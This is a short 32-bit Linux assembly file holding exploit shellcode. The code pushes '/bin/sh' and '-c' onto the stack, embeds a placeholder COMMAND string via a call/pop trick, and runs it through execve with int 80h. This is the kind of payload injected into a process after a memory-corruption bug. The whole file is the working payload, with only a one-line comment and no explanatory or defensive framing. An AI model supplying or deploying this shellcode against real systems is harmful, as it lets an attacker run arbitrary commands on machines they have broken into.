; Linux, 32 bit: execve("/bin/sh", "-c", COMMAND), the command behind a call.
bits 32
        push byte 11
        pop eax
        cdq
        push edx
        push word '-c'
        mov edi, esp
        push dword '/sh'
        push dword '/bin'
        mov ebx, esp
        push edx
        call run
        db COMMAND, 0
run:    push edi
        push ebx
        mov ecx, esp
        int 80h
